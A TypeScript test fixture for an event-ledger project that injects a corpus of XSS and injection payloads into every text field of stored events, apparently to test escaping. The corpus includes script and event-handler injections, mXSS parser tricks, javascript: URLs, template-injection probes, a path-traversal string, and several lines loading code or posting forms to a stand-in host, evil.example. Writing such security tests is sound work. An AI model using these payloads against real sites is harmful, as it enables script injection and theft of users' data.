import { compare, decideAll, noPlan, type Recordable, type Recorded } from '@plan-ledger/domain';
import { type EventStore, recordable } from '@plan-ledger/store';
import { memoryStore } from '@plan-ledger/store/memory';

import { fullEdition } from '../../packages/domain/src/testing/full-edition.js';
import { idNamed, instantAt, PLAN, rightOf } from './histories.js';
import { PAYLOADS } from './payloads.js';

const EVENTS = [
  'onerror=alert(1)',
  'onload="alert(1)"',
  "' autofocus onfocus='alert(1)",
  '" onmouseover="alert(1)" x="',
  '"><svg onload=alert(1)>',
  "'><svg/onload=alert(1)//",
  '"/><iframe src="javascript:alert(1)">',
];

const ELEMENTS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>*{background:url(https://evil.example/x)}</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name=a autofocus></form>',
  '<a href="javascript:alert(1)">go</a>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><script>alert(1)</script>',
  '<title></title><script>alert(1)</script>',
  '<plaintext>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
];

const ENDINGS = [
  '</script><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</td></tr></table><script>alert(1)</script>',
  '</svg><script>alert(1)</script>',
  '</desc></svg><img src=x onerror=alert(1)>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '*/</style><script>alert(1)</script>',
];

const ENTITIES = [
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x3c;img src=x onerror=alert(1)&#x3e;',
  '&notit; &amp;amp; &copy',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
];

const ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  ' javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.example/x',
  'https://evil.example/"onclick="alert(1)',
  '#" onclick="alert(1)',
  '../../../../etc/passwd',
];

const TEMPLATES = [
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '<%= 7*7 %>',
  '#{7*7}',
  '{actions}',
];

/** More than a hundred hostile texts, all different; those that no ledger takes are not among them. */
export const HOSTILE: readonly string[] = [
  ...new Set([...PAYLOADS, ...EVENTS, ...ELEMENTS, ...ENDINGS, ...ENTITIES, ...ADDRESSES, ...TEMPLATES]),
];

/** What is no text: ids and codes, days, periods, types. */
const isCode = (text: string): boolean => /^[a-zA-Z\d]+(?:[-/][a-zA-Z\d]+)*$/u.test(text);

const withText = (value: unknown, text: string): unknown => {
  if (typeof value === 'string') return isCode(value) ? value : text;
  if (Array.isArray(value)) return value.map((one) => withText(one, text));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, withText(one, text)]));
};

const EVENTS_OF_ALL: readonly Recordable[] = (() => {
  const decided = decideAll(noPlan, compare(noPlan, fullEdition() as never, 'U1' as never).steps);
  if (decided._tag === 'Left') throw new Error(JSON.stringify(decided.left));
  let at = 0;
  return recordable(decided.right, () => idNamed(`hostile ${(at += 1)}`));
})();

/** The events of a plan that has one of everything, with a text in the place of every text in it. */
export const eventsWith = (text: string): readonly Recordable[] =>
  EVENTS_OF_ALL.map((event) => ({
    ...event,
    event: withText(event.event, text) as Recorded['event'],
    ...(event.reason === undefined ? {} : { reason: text }),
    source: { document: text, place: text },
  }));

/** A store that holds them. */
export const storeOf = async (
  text: string,
): Promise<{ readonly store: EventStore; readonly version: number }> => {
  const store = memoryStore({ clock: () => instantAt(0) });
  const events = eventsWith(text);
  await rightOf(store.append(PLAN, 0, events));
  return { store, version: events.length };
};
